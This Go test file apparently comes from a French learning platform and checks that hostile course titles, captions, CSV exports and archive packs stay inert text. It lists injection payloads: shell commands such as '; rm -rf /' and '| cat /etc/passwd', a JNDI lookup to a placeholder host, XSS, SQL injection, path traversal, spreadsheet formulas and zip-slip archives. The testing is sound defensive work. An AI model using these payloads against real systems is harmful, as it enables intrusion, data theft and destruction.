package apptest_test

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"net/url"
	"os"
	"strings"
	"testing"
	"unicode"

	"github.com/digital-learning-lab/lab/internal/apptest"
	"github.com/digital-learning-lab/lab/internal/archive"
)

// naughty are words that have broken programs: markup, commands, queries, paths,
// formats, formulas, and letters that lie about their order. Each is shown as it
// was written, but for what cannot be seen (#29, #36 and #37).
var naughty = []string{
	"-i x", "--help", "; rm -rf /", "$(touch /tmp/lab-evil)", "`id`", "| cat /etc/passwd", "${jndi:ldap://192.0.2.1/x}", "%n%s%x", "{{7*7}}", "#{7*7}",
	"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "javascript:alert(1)", "'-alert(1)-'", "]]><x/>", "&lt;b&gt;&amp;", "<!--#exec cmd=\"id\"-->",
	"'; DROP TABLE course; --", "1' OR '1'='1", `\'; SELECT 1`, "../../etc/passwd", `..\..\windows\win.ini`, "/dev/null", "file:///etc/passwd", "CON", "nul.txt",
	"=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"http://192.0.2.1\")", "＝1+1",
	"null", "undefined", "NaN", "true", "0", "1e309", "-0", "0x7f", "[object Object]", "NULL",
	"gpj.\u202eexe", "\u2066isolé\u2069 ouvert\u2067", "z\u0351a\u0334l\u0353g\u0362o", "ﷺ ﷽", "الدّارةُ الكهربائيّة", "e\u0301té", "🇲🇦👩‍🔧", "Å\ufeffB", "a\u00adb", "\u0000nul", "tab\tet\rretour", "\u2028ligne",
}

// seen is what the lab keeps of a title: nothing that hides or turns it round.
func seen(t *testing.T, title string) {
	t.Helper()
	if strings.ContainsFunc(title, func(r rune) bool { return unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) }) {
		t.Errorf("%q hides something", title)
	}
}

// letters are those of a text that anybody sees, the same in any composition.
func letters(s string) string {
	return strings.Map(func(r rune) rune {
		if r > unicode.MaxASCII || unicode.IsSpace(r) || unicode.IsControl(r) {
			return -1
		}
		return r
	}, s)
}

func TestTextsThatAttackAreOnlyTexts(t *testing.T) {
	t.Parallel()
	d := openDesk(t, apptest.Open(t))
	for _, text := range naughty {
		id := apptest.NewID()
		body := map[string]any{"title": text, "summary": text, "filiere": text, "language": "fr", "sector": "energies-renouvelables", "level": "ts", "keywords": []string{text}}
		if r, err := d.trainer.Send(http.MethodPut, "/api/v1/courses/"+id, body); err != nil || r.Status != http.StatusCreated {
			t.Errorf("%q: %d %s %v", text, r.Status, r.Body, err)
			continue
		}
		var kept struct {
			Title, Summary, Filiere string
			Keywords                []string
		}
		r := d.trainer.Get("/courses/"+id, &kept)
		for what, shown := range map[string]string{"title": kept.Title, "summary": kept.Summary, "filière": kept.Filiere, "keyword": strings.Join(kept.Keywords, "")} {
			if letters(text) != "" && !strings.EqualFold(letters(shown), letters(strings.ReplaceAll(text, "＝", "="))) && !strings.Contains(text, "ﷺ") && !strings.Contains(text, "e\u0301") {
				t.Errorf("the %s of %q is %q", what, text, shown)
			}
			seen(t, strings.ReplaceAll(shown, "\n", ""))
		}
		if kind := r.Header.Get("Content-Type"); kind != "application/json" || r.Header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%q is answered as %q", text, kind)
		}
		found := http.StatusOK
		if strings.Contains(text, "\x00") { // is no text, and refused as an address
			found = http.StatusBadRequest
		}
		d.trainer.Do(found, http.MethodGet, "/search?lang=fr&q="+url.QueryEscape(text), nil)
	}
	for _, what := range []string{"title", "summary", "filiere"} {
		body := map[string]any{"title": "Titre", "language": "fr", "sector": "energies-renouvelables", "level": "ts"}
		body[what] = strings.Repeat("é", 500_000) // a megabyte
		if r, err := d.trainer.Send(http.MethodPut, "/api/v1/courses/"+apptest.NewID(), body); err != nil || r.Status != http.StatusUnprocessableEntity || len(r.Body) > 1000 {
			t.Errorf("a %s of a megabyte: %d, %d bytes of answer, %v", what, r.Status, len(r.Body), err)
		}
	}
	if _, err := os.Stat("/tmp/lab-evil"); err == nil {
		t.Error("a text was run")
	}
	d.nothingLost(t)
}

// What is found is shown as it was written, and what is marked in it is told by
// words, not by markup.
func TestATitleThatAttacksIsFoundAsWritten(t *testing.T) {
	t.Parallel()
	d := openDesk(t, apptest.Open(t))
	const title = `Zinguerie <img src=x onerror=alert(1)> "$(id)"`
	course, module := d.trainer.Course(title)
	resource := d.trainer.UploadNamed(course, module, "zinguerie.md", []byte("# Zinguerie\n\nUne <script>alert(1)</script> gouttière.\n"))
	d.Idle()
	d.trainer.Publish(course, d.trainer.Group("ELEC-TS-101"))
	d.Idle()
	var f found
	d.As("salma.amrani").Get("/search?lang=fr&q=zinguerie", &f)
	at := -1
	for i, g := range f.Groups {
		if g.Resource == resource {
			at = i
		}
	}
	if at < 0 || f.Groups[at].Course.Title != title {
		t.Fatalf("found %+v", f)
	}
	for _, p := range f.Groups[at].Passages {
		if strings.Contains(p.Text, "<script>") {
			t.Errorf("a passage is %q", p.Text)
		}
	}
}

// A film's captions are words, whatever they look like (#33 to #35).
func TestCaptionsThatAttackAreOnlyWords(t *testing.T) {
	t.Parallel()
	d := openDesk(t, apptest.Open(t))
	film := d.send("atelier.mp4", short(t))
	d.Idle()
	said := "WEBVTT\n\nSTYLE\n::cue { background: url(http://192.0.2.1/x) }\n\n00:00.100 --> 00:00.500\n<img src=x onerror=alert(1)>Bonjour <b>à tous</b> &lt;script&gt;alert(2)&lt;/script&gt;\n"
	d.trainer.UploadBytes(apptest.Sending{Course: d.course, Module: d.module, Resource: film, As: "captions", Name: "atelier.fr.vtt"}, []byte(said))
	d.Idle()
	var v viewer
	raw := d.trainer.Get("/resources/"+film+"/viewer", &v).Body
	if v.Video == nil || len(v.Video.Captions) != 1 || len(v.Video.Captions[0].Cues) != 1 {
		t.Fatalf("the viewer has %s", raw)
	}
	track := v.Video.Captions[0]
	if text := track.Cues[0].Text; !strings.Contains(text, "Bonjour à tous") || strings.Contains(text, "<img") {
		t.Errorf("the cue is %q", text)
	}
	vtt := apptest.MustSend(t, d.trainer, http.MethodGet, track.Src)
	if vtt.Status != http.StatusOK || bytes.Contains(vtt.Body, []byte("<img")) || bytes.Contains(vtt.Body, []byte("<script>")) || bytes.Contains(vtt.Body, []byte("STYLE")) ||
		!strings.HasPrefix(vtt.Header.Get("Content-Type"), "text/vtt") || vtt.Header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("the track is %v %s", vtt.Header, vtt.Body)
	}
}

// Names of people and courses that a spreadsheet would take for formulas are
// cells of text (#38).
func TestATableForASpreadsheetHoldsNoFormula(t *testing.T) {
	t.Parallel()
	lab := apptest.Open(t)
	manager, trainer := lab.As("karim.tazi"), lab.As("nadia.berrada")
	const people = "Nom;Prénom;Matricule;Groupe;Rôle\r\n" +
		"=cmd|' /C calc'!A0;Ali;f.un;ELEC-TS-101;stagiaire\r\n@SUM(1+1);Ali;f.deux;ELEC-TS-101;stagiaire\r\n" +
		"+1;Ali;f.trois;ELEC-TS-101;stagiaire\r\n\"-1;\"\"deux\";Ali;f.quatre;ELEC-TS-101;stagiaire\r\n\"\t=1\";Ali;f.cinq;ELEC-TS-101;stagiaire\r\n"
	send(t, manager, http.StatusOK, "true", []byte(people))
	group := trainer.Group("ELEC-TS-101")
	course, module := trainer.Course("=HYPERLINK(\"http://192.0.2.1\")")
	trainer.UploadNamed(course, module, "a.md", []byte("# A\n\nb\n"))
	lab.Idle()
	trainer.Publish(course, group)
	body := trainer.Do(http.StatusOK, http.MethodGet, "/groups/"+group+"/progress.csv?course="+course+"&lang=fr", nil).Body
	table := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\ufeff"))))
	table.Comma = ';'
	lines, err := table.ReadAll()
	if err != nil || len(lines) < 6 {
		t.Fatalf("%d lines, %v: %s", len(lines), err, body)
	}
	escaped := 0
	for _, line := range lines {
		for _, cell := range line {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a cell is %q", cell)
			}
			if strings.HasPrefix(cell, "'") {
				escaped++
			}
		}
	}
	if escaped < len(lines)-1 { // the course alone is one in each line
		t.Errorf("%d cells are told from formulas in %s", escaped, body)
	}
}

// A pack is read by names of ours alone: what else is in it, and where it would
// lead, is nobody's business.
func TestAPackThatAttacksBringsNothing(t *testing.T) {
	t.Parallel()
	lab := apptest.Open(t)
	before := outside(t, lab.Config.Data)
	for name, data := range map[string][]byte{
		"names upwards": entriesNamed("../../evil", "pack.json")(t), "a bomb for an index": zeros("pack.json", 256<<20)(t),
		"archives in archives": nested(t), "no archive": []byte("PK\x03\x04evil"), "many files": many(65_000)(t),
	} {
		pack, err := archive.Open(bytes.NewReader(data), int64(len(data)))
		if err == nil {
			err = lab.Import(t.Context(), pack)
		}
		if err == nil {
			t.Errorf("%s: it was taken", name)
		}
	}
	if after := outside(t, lab.Config.Data); after != before {
		t.Errorf("something was written beside the data folder: %s", after)
	}
}
